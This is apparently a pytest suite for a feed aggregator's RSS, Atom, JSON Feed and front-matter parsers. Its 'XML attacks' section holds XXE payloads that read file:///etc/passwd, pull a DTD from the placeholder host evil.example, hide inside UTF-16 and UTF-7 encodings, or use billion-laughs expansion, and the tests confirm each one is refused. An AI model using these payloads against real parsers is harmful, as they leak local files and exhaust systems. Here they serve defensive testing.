"""Tests for aggregator.parse: one hand-written document per format in tests/data/parse/,
with the entries it must yield; failures as values; the XML attack documents."""

from __future__ import annotations

import io
import json
import time
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aggregator.model import Entry, ParsedFeed
from aggregator.parse import ParseFailure, choose_parser, parse_feed, parse_posts_dir
from aggregator.parse.jsonfeed import parse_json_feed
from aggregator.parse.xmlfeed import declares_entities, parse_xml_feed

DATA = Path(__file__).parent / "data" / "parse"
FETCHED = "https://fetch.example.org/feeds/feed"


def parsed(name: str, content_type: str | None = None, url: str = FETCHED) -> ParsedFeed:
    result = parse_feed((DATA / name).read_bytes(), url=url, content_type=content_type)
    assert isinstance(result, ParsedFeed), result
    return result


def failure(body: bytes, content_type: str | None = None) -> str:
    result = parse_feed(body, url=FETCHED, content_type=content_type)
    assert isinstance(result, ParseFailure), result
    return result.reason


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


# --- RSS and Atom (feedparser) ---------------------------------------------------------


def test_rss20_content_encoded_media_and_enclosures() -> None:
    feed = parsed("rss20.xml", "application/rss+xml; charset=utf-8")
    assert (feed.title, feed.link, feed.base_url) == (
        "Example News & Views",
        "https://news.example.com/",
        FETCHED,
    )
    assert feed.warnings == ()
    first, enclosure_only, hostile = feed.entries
    assert first == Entry(
        guid="example-1001",
        # Relative links are resolved against the fetch URL.
        link="https://fetch.example.org/2024/01/02/rates",
        title="Rates rise & markets <b>fall</b>",
        summary='<p>Short summary with a <a href="https://fetch.example.org/more">link</a>.</p>',
        content='<p>Full story. <img alt="" src="https://fetch.example.org/img/inline.png" /></p>',
        published=utc(2024, 1, 2, 1, 0),
        updated=None,
        author="Jane Reporter",
        tags=("Economy", "Markets"),
        # media:content images (not the video; an image by its suffix), then thumbnails;
        # the audio enclosure is not an image.
        images=(
            "https://cdn.example.com/photo-large.jpg",
            "https://fetch.example.org/img/no-medium.webp",
            "https://cdn.example.com/photo-thumb.jpg",
        ),
    )
    assert enclosure_only.images == ("https://cdn.example.com/cover.png",)
    assert enclosure_only.guid == "https://news.example.com/2024/01/03/enclosure"
    assert enclosure_only.published == utc(2024, 1, 3, 8, 30)
    assert enclosure_only.content is None
    assert enclosure_only.summary == "Just a description."
    # A javascript: link never leaves the parser; neither guid nor date is invented.
    assert (hostile.link, hostile.guid, hostile.published) == (None, None, None)


def test_rss10_rdf() -> None:
    feed = parsed("rss10.rdf")
    assert (feed.title, feed.link) == ("RDF Site", "https://rdf.example.org/")
    assert feed.entries == (
        Entry(
            guid="https://rdf.example.org/posts/1",
            link="https://rdf.example.org/posts/1",
            title="First RDF item",
            summary="Described in RDF.",
            # dc:date is an update date to feedparser; it stands in for the publication.
            published=utc(2024, 2, 3, 2, 5, 6),
            updated=utc(2024, 2, 3, 2, 5, 6),
            author="R. D. F.",
            tags=("Semantics",),
        ),
    )


def test_rss091_with_netscape_doctype_is_not_refused() -> None:
    feed = parsed("rss091.xml")
    assert feed.title == "Old School"
    assert feed.entries == (
        Entry(
            guid=None,
            link="http://old.example.net/cafe.html",
            title="Café opens",
            summary="A new café in town.",
        ),
    )


def test_atom10_xml_base_makes_links_absolute() -> None:
    feed = parsed("atom10.xml", "application/atom+xml")
    assert (feed.title, feed.link) == ("Atom Blog", "https://blog.example.org/blog/")
    relative, elsewhere = feed.entries
    assert relative == Entry(
        guid="tag:blog.example.org,2024:relative",
        link="https://blog.example.org/blog/posts/relative",
        title="Relative <em>links</em>",
        # type="text" is plain text: escaped into HTML so every Entry string is HTML.
        summary="<p>Plain &lt;summary&gt; &amp; text</p>",
        content='<p>See <a href="https://blog.example.org/blog/other">the other post</a>.</p>',
        published=utc(2024, 3, 1, 11, 0),
        updated=utc(2024, 3, 2),
        author="Alice",
        tags=("atom", "xml"),
        images=("https://blog.example.org/media/hero.jpg",),
    )
    # An entry's own xml:base wins over the feed's.
    assert elsewhere.link == "https://elsewhere.example.net/archive/2024/post"
    assert elsewhere.content == "<p>XHTML <b>body</b></p>"
    assert elsewhere.published == elsewhere.updated == utc(2024, 3, 3)


def test_atom03() -> None:
    feed = parsed("atom03.xml")
    assert (feed.title, feed.link) == ("Atom 0.3 Feed", "https://legacy.example.org/")
    (entry,) = feed.entries
    assert entry.guid == "tag:legacy.example.org,2005:1"
    assert entry.link == "https://legacy.example.org/2005/07/31/legacy"
    assert entry.content == "<p>Escaped HTML content</p>"
    assert entry.published == utc(2005, 7, 31, 12, 29, 29)
    assert entry.updated == utc(2005, 7, 31, 14, 0)
    assert entry.author == "Old Timer"


def test_dates_are_aware_utc() -> None:
    for name in ("rss20.xml", "rss10.rdf", "atom10.xml", "atom03.xml", "jsonfeed11.json"):
        for entry in parsed(name).entries:
            for when in (entry.published, entry.updated):
                assert when is None or when.tzinfo is UTC


# --- Character encodings ---------------------------------------------------------------

KOREAN_RSS = """<?xml version="1.0" encoding="euc-kr"?>
<rss version="2.0"><channel><title>한국 뉴스</title><link>https://k.example.kr/</link>
<item><title>속보: 인공지능 &amp; 반도체</title><link>/news/1</link>
<description>요약입니다</description></item></channel></rss>"""


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        pytest.param(KOREAN_RSS.encode("euc-kr"), None, id="declared"),
        # text/xml without a charset: the declaration decides (RFC 7303), no warning.
        pytest.param(KOREAN_RSS.encode("euc-kr"), "text/xml", id="text-xml-no-charset"),
        pytest.param(
            KOREAN_RSS.split("\n", 1)[1].encode("euc-kr"),
            "application/rss+xml; charset=EUC-KR",
            id="http-charset-only",
        ),
    ],
)
def test_euc_kr_hangul_is_decoded(body: bytes, content_type: str | None) -> None:
    with pytest.raises(UnicodeDecodeError):
        body.decode("utf-8")  # the fixture really is EUC-KR bytes
    feed = parse_feed(body, url="https://k.example.kr/rss", content_type=content_type)
    assert isinstance(feed, ParsedFeed)
    assert feed.title == "한국 뉴스"
    assert feed.warnings == ()
    (entry,) = feed.entries
    assert entry.title == "속보: 인공지능 & 반도체"
    assert entry.summary == "요약입니다"
    assert entry.link == "https://k.example.kr/news/1"


def test_wrong_http_charset_is_overridden_with_a_warning() -> None:
    body = KOREAN_RSS.encode("euc-kr")
    feed = parse_feed(body, url=FETCHED, content_type="text/xml; charset=utf-8")
    assert isinstance(feed, ParsedFeed)
    assert feed.entries[0].title == "속보: 인공지능 & 반도체"
    assert feed.warnings == (
        "character encoding: document declared as utf-8, but parsed as euc-kr",
    )


def test_undeclared_document_without_content_type_is_utf8() -> None:
    body = KOREAN_RSS.split("\n", 1)[1].encode("utf-8")
    feed = parse_feed(body, url=FETCHED)
    assert isinstance(feed, ParsedFeed)
    assert feed.entries[0].title == "속보: 인공지능 & 반도체"


def test_utf16_document() -> None:
    body = KOREAN_RSS.replace("euc-kr", "utf-16").encode("utf-16")
    feed = parse_feed(body, url=FETCHED)
    assert isinstance(feed, ParsedFeed)
    assert feed.title == "한국 뉴스"


# --- Failures and ill-formed documents -------------------------------------------------


@pytest.mark.parametrize("body", [b"", b"   \n\t ", b"\r\n"])
def test_empty_body(body: bytes) -> None:
    assert failure(body) == "empty body"


@pytest.mark.parametrize("content_type", [None, "text/html; charset=utf-8"])
def test_html_page_is_not_a_feed(content_type: str | None) -> None:
    assert failure((DATA / "page.html").read_bytes(), content_type) == (
        "not a feed: got an HTML page"
    )


def test_well_formed_xhtml_page_is_not_a_feed() -> None:
    page = b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'
    assert failure(page) == "not a feed: got an HTML page"


def test_other_xml_is_not_a_feed() -> None:
    assert failure(b"<?xml version='1.0'?><config><a>1</a></config>") == (
        "not a feed: no RSS or Atom document found"
    )


def test_ill_formed_xml_with_readable_entries_is_a_feed_with_a_warning() -> None:
    feed = parsed("illformed.xml")
    assert feed.title == "Broken But Readable"
    assert [e.title for e in feed.entries] == ["Good one", "Bare & ampersand breaks XML"]
    assert [e.guid for e in feed.entries] == [
        "https://broken.example.org/1",
        "https://broken.example.org/2",
    ]
    (warning,) = feed.warnings
    assert warning.startswith("ill-formed XML, read what could be read: line 12, column ")


@pytest.mark.parametrize(
    ("body", "line"),
    [
        (b"<rss", 1),
        (b'<?xml version="1.0"?>\n<rss', 2),
        (b"not xml at all", 1),
    ],
)
def test_unreadable_xml_says_where(body: bytes, line: int) -> None:
    assert failure(body).startswith(f"not well-formed XML at line {line}, column ")


def test_bytes_that_look_like_a_path_are_never_opened() -> None:
    # feedparser opens a string it is given as a file name; we hand it a stream.
    reason = failure(b"/etc/passwd")
    assert "root:" not in reason


# --- XML attacks -------------------------------------------------------------------------


def _passwd_marker() -> str:
    passwd = Path("/etc/passwd")
    return passwd.read_text().splitlines()[0] if passwd.exists() else "root:x:0:0"


def test_xxe_is_refused_before_parsing() -> None:
    result = parse_feed((DATA / "xxe.xml").read_bytes(), url=FETCHED)
    assert result == ParseFailure("entity declarations are not allowed")


def test_feedparser_itself_never_resolves_external_entities() -> None:
    # Defence in depth, past our screen. A comment holding a tag before the DOCTYPE defeats
    # feedparser's own regex scrubbing, so expat sees the declaration: it must not load it.
    body = (
        b'<?xml version="1.0"?>\n<!-- <a> -->\n<!DOCTYPE rss [\n'
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        b"<rss version='2.0'><channel><title>t</title>"
        b"<item><title>A &xxe; B</title></item></channel></rss>"
    )
    result = feedparser.parse(io.BytesIO(body))
    assert [entry.title for entry in result.entries] == ["A  B"]
    assert _passwd_marker() not in repr(result)
    assert failure(body) == "entity declarations are not allowed"


def test_billion_laughs_is_refused_quickly() -> None:
    body = (DATA / "billion_laughs.xml").read_bytes()
    started = time.perf_counter()
    result = parse_feed(body, url=FETCHED)
    assert time.perf_counter() - started < 0.5
    assert result == ParseFailure("entity declarations are not allowed")


_XXE_ITEM = b"<rss version='2.0'><channel><item><title>&x;</title></item></channel></rss>"


# "<!ENTITY" in UTF-7, behind a comment that defeats feedparser's own scrubbing.
_UTF7_XXE = b'<!-- <a> --><!DOCTYPE rss [+ADwAIQ-ENTITY x SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        pytest.param(b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _XXE_ITEM,
                     None, id="one-line"),
        pytest.param(b'<!-- <a> --><!DOCTYPE rss [\n<!ENTITY x "y">\n]>' + _XXE_ITEM,
                     None, id="after-comment-with-tag"),
        pytest.param(b'<?xml version="1.0"?><?pi x?>\n<!DOCTYPE rss SYSTEM "a>b" [<!ENTITY x "">]>'
                     + _XXE_ITEM, None, id="quoted-gt-in-system-id"),
        pytest.param(b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
                     + _XXE_ITEM, None, id="parameter-entity"),
        pytest.param(b'<!DOCTYPE rss [<!ENTITY a "]>"><!ENTITY x "&a;&a;">]>' + _XXE_ITEM,
                     None, id="subset-end-inside-value"),
        pytest.param(('<?xml version="1.0" encoding="utf-16"?>\n<!DOCTYPE rss [\n'
                      '<!ENTITY x SYSTEM "file:///etc/passwd">]>').encode("utf-16")
                     + _XXE_ITEM.decode().encode("utf-16-le"), None, id="utf-16"),
        pytest.param(b"junk <!DOCTYPE rss [<!ENTITY x 'y'>]>" + _XXE_ITEM,
                     None, id="unexpected-prologue"),
        pytest.param(_UTF7_XXE + _XXE_ITEM, 'text/xml; charset="UTF-7"', id="utf-7-by-header"),
        pytest.param(b'<?xml version="1.0" encoding="utf-7"?>' + _UTF7_XXE + _XXE_ITEM,
                     None, id="utf-7-by-declaration"),
    ],
)  # fmt: skip
def test_entity_declarations_are_refused_in_any_disguise(
    body: bytes, content_type: str | None
) -> None:
    assert declares_entities(body, content_type)
    assert failure(body, content_type) == "entity declarations are not allowed"


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE rss SYSTEM 'http://example.com/rss.dtd'>" + _XXE_ITEM,
        # A post that talks about entities, in CDATA, without an internal subset.
        b"<rss><channel><item><description><![CDATA[<!ENTITY x 'y'>]]></description>"
        b"</item></channel></rss>",
        b"<?xml version='1.0'?><!-- <!ENTITY in a comment --><rss/>",
    ],
)
def test_documents_without_an_internal_subset_pass_the_screen(body: bytes) -> None:
    assert not declares_entities(body)


# --- JSON Feed -----------------------------------------------------------------------------


def test_json_feed_11() -> None:
    feed = parsed("jsonfeed11.json", "application/feed+json")
    assert (feed.title, feed.link) == ("JSON Feed 1.1", "https://json.example.org/")
    # The feed's own feed_url is the base for its relative URLs.
    assert feed.base_url == "https://json.example.org/feed/feed.json"
    assert feed.warnings == ("items[2] is not an object; skipped",)
    first, numbered, hostile = feed.entries
    assert first == Entry(
        guid="https://json.example.org/posts/1",
        link="https://json.example.org/posts/1",
        # title and summary are plain text in JSON Feed: escaped into HTML.
        title="First &lt;JSON&gt; item",
        summary="A short &amp; plain summary",
        content="<p>Hello <b>world</b></p>",
        published=utc(2024, 4, 4, 21, 7, 8),
        updated=utc(2024, 4, 6),
        author="Item Author",
        tags=("json", "feeds"),
        images=(
            "https://json.example.org/feed/images/main.png",
            "https://cdn.json.example.org/banner.jpg",
            "https://json.example.org/attach/photo.webp",
        ),
    )
    assert numbered == Entry(
        guid="42",
        link="https://elsewhere.example.com/story",
        title="",
        content="<p>Line one<br>line two</p>\n<p>Second &lt;para&gt; &amp; more</p>",
        published=None,  # "not a date"
        author="Feed Writer",  # an item without authors has the feed's
    )
    assert (hostile.guid, hostile.link, hostile.title) == ("3", None, "")


def test_json_feed_10() -> None:
    feed = parsed("jsonfeed10.json", url="https://old-json.example.org/feed.json")
    assert feed.base_url == "https://old-json.example.org/"  # home_page_url, no feed_url
    seven, eight = feed.entries
    assert seven == Entry(
        guid="7",
        link="https://old-json.example.org/7",
        title="Seven",
        content="<p>Plain seven</p>",
        published=utc(2017, 5, 17, 15, 2, 12),
        author="Legacy Item Author",
    )
    assert eight.link == "https://old-json.example.org/8"
    assert eight.published == utc(2017, 5, 18)  # a bare date is midnight UTC
    assert eight.author == "Legacy Feed Author"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (
            b'{"version": "https://jsonfeed.org/version/1.1", "items": [}',
            "not valid JSON at line 1",
        ),
        (b'{"title": "no version", "items": []}', "not a JSON Feed"),
        (b'{"version": "1.1", "items": []}', "not a JSON Feed"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "title": "\xff"}', "not valid UTF-8"),
        (b"[]", "not a JSON Feed: the top level is not an object"),
        (b"[" * 100_000 + b"]" * 100_000, "not a JSON Feed: nested too deeply"),
    ],
)
def test_json_feed_failures(body: bytes, reason: str) -> None:
    assert failure(body, "application/json").startswith(reason)


def test_json_feed_with_bom_and_whitespace_is_sniffed() -> None:
    body = (
        b"\xef\xbb\xbf \n"
        + json.dumps(
            {"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": []}
        ).encode()
    )
    feed = parse_feed(body, url=FETCHED, content_type="text/plain")
    assert isinstance(feed, ParsedFeed)
    assert (feed.title, feed.entries) == ("T", ())


def test_parser_choice() -> None:
    xml_body = (DATA / "rss20.xml").read_bytes()
    json_body = (DATA / "jsonfeed11.json").read_bytes()
    assert choose_parser(json_body, None) is parse_json_feed
    assert choose_parser(json_body, "application/rss+xml") is parse_json_feed
    # Markup under a JSON label is still markup.
    assert choose_parser(xml_body, "application/json") is parse_xml_feed
    assert choose_parser(b"\xff\xfe<\x00", "application/json") is parse_json_feed
    assert choose_parser(b"\xff\xfe<\x00", None) is parse_xml_feed
    feed = parse_feed(xml_body, url=FETCHED, content_type="application/json")
    assert isinstance(feed, ParsedFeed) and len(feed.entries) == 3


JSON_FEED_START = '{"version":"https://jsonfeed.org/version/1",'


@settings(max_examples=200, deadline=None, database=None)
@given(
    st.one_of(
        st.binary(max_size=400),
        st.text(max_size=400).map(lambda t: ("<rss><channel><item>" + t).encode()),
        st.text(max_size=400).map(lambda t: (JSON_FEED_START + t).encode()),
    ),
    st.sampled_from([None, "application/json", "text/xml; charset=euc-kr", "text/html"]),
)  # fmt: skip
def test_any_bytes_give_a_value_never_an_exception(body: bytes, content_type: str | None) -> None:
    result = parse_feed(body, url=FETCHED, content_type=content_type)
    assert isinstance(result, ParsedFeed | ParseFailure)


# --- A directory of front-matter posts ------------------------------------------------------


def _write(directory: Path, name: str, text: str) -> None:
    (directory / name).write_text(text, encoding="utf-8")


def test_posts_dir(tmp_path: Path) -> None:
    _write(
        tmp_path,
        "2024-05-06-full.md",
        "---\n"
        "title: 'Full: a post with <tags> & more'\n"
        "id: post-full\n"
        "canonical_url: https://site.example.org/full\n"
        "link: https://site.example.org/ignored\n"
        "excerpt: >\n  Plain excerpt & such\n"
        "date: 2024-05-06 10:00:00 +0900\n"
        "author: Kim\n"
        "tags: [한국어, news]\n"
        "categories: News\n"
        "image: 'https://site.example.org/full.jpg'\n"
        "---\n"
        "\n<p>Body one</p>\n<p>--- not a fence ---</p>\n\n\n",
    )
    _write(
        tmp_path,
        "2024-05-07-jekyll-name.markdown",
        "---\ntitle: Dated by its name\nlink: https://site.example.org/jekyll\n---\n<p>B</p>\n",
    )
    _write(tmp_path, "b-date-only.html", "---\r\ntitle: Date only\r\ndate: 2024-05-08\r\n---\r\n")
    _write(
        tmp_path,
        "c-string-date.md",
        "---\ntitle: 12345\ndate: '2024-05-09T01:02:03Z'\nauthor: {name: Lee}\n"
        "tags: one\ncategories: [two, one]\n---\nx",
    )
    _write(tmp_path, "d-no-front-matter.md", "# Just markdown\n")
    _write(tmp_path, "e-bad-yaml.md", "---\ntitle: [unclosed\n---\nbody\n")
    _write(tmp_path, "f-unclosed.md", "---\ntitle: never closed\n")
    _write(tmp_path, "g-list.md", "---\n- a\n- b\n---\n")
    _write(tmp_path, "notes.txt", "---\ntitle: not a post\n---\n")
    (tmp_path / "sub.md").mkdir()  # a directory with a post's name is not a post
    (tmp_path / "h-latin1.md").write_bytes(b"---\ntitle: caf\xe9\n---\n")

    feed = parse_posts_dir(tmp_path)
    assert isinstance(feed, ParsedFeed)
    assert feed.base_url == tmp_path.absolute().as_uri() + "/"
    full, jekyll, date_only, string_date = feed.entries
    assert full == Entry(
        guid="post-full",
        link="https://site.example.org/full",
        title="Full: a post with &lt;tags&gt; &amp; more",
        summary="Plain excerpt &amp; such",
        content="<p>Body one</p>\n<p>--- not a fence ---</p>",
        published=utc(2024, 5, 6, 1, 0),
        author="Kim",
        tags=("한국어", "news", "News"),
        images=("https://site.example.org/full.jpg",),
    )
    assert jekyll == Entry(
        guid="2024-05-07-jekyll-name.markdown",  # no id: the file name
        link="https://site.example.org/jekyll",
        title="Dated by its name",
        content="<p>B</p>",
        published=utc(2024, 5, 7),
    )
    assert (date_only.title, date_only.published, date_only.content) == (
        "Date only",
        utc(2024, 5, 8),
        None,
    )
    assert string_date.title == "12345"
    assert string_date.published == utc(2024, 5, 9, 1, 2, 3)
    assert string_date.author == "Lee"
    assert string_date.tags == ("one", "two")
    no_front_matter, bad_yaml, unclosed, listed, latin1 = feed.warnings
    assert (
        no_front_matter
        == "d-no-front-matter.md skipped: no front matter (the first line is not ---)"
    )
    # libyaml and the pure-Python loader word the problem differently.
    assert bad_yaml.startswith("e-bad-yaml.md skipped: invalid YAML front matter at line 3: ")
    assert unclosed == "f-unclosed.md skipped: the front matter has no closing --- line"
    assert listed == "g-list.md skipped: the front matter is not a mapping of keys to values"
    assert latin1 == "h-latin1.md skipped: not valid UTF-8 at byte 14"


def test_posts_dir_skips_files_over_the_cap(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("aggregator.parse.posts.MAX_POST_BYTES", 64)
    _write(tmp_path, "big.md", "---\ntitle: big\n---\n" + "x" * 100)
    _write(tmp_path, "small.md", "---\ntitle: small\n---\n")
    feed = parse_posts_dir(tmp_path)
    assert isinstance(feed, ParsedFeed)
    assert [e.title for e in feed.entries] == ["small"]
    assert feed.warnings == ("big.md skipped: larger than the limit of 64 bytes",)


def test_posts_dir_that_cannot_be_read(tmp_path: Path) -> None:
    missing = parse_posts_dir(tmp_path / "missing")
    assert isinstance(missing, ParseFailure)
    assert missing.reason.startswith("cannot read the posts directory")
    _write(tmp_path, "file.md", "---\n---\n")
    not_a_dir = parse_posts_dir(tmp_path / "file.md")
    assert isinstance(not_a_dir, ParseFailure)


def test_empty_posts_dir(tmp_path: Path) -> None:
    assert parse_posts_dir(tmp_path) == ParsedFeed(
        title=tmp_path.name, link=None, base_url=tmp_path.as_uri() + "/", entries=()
    )
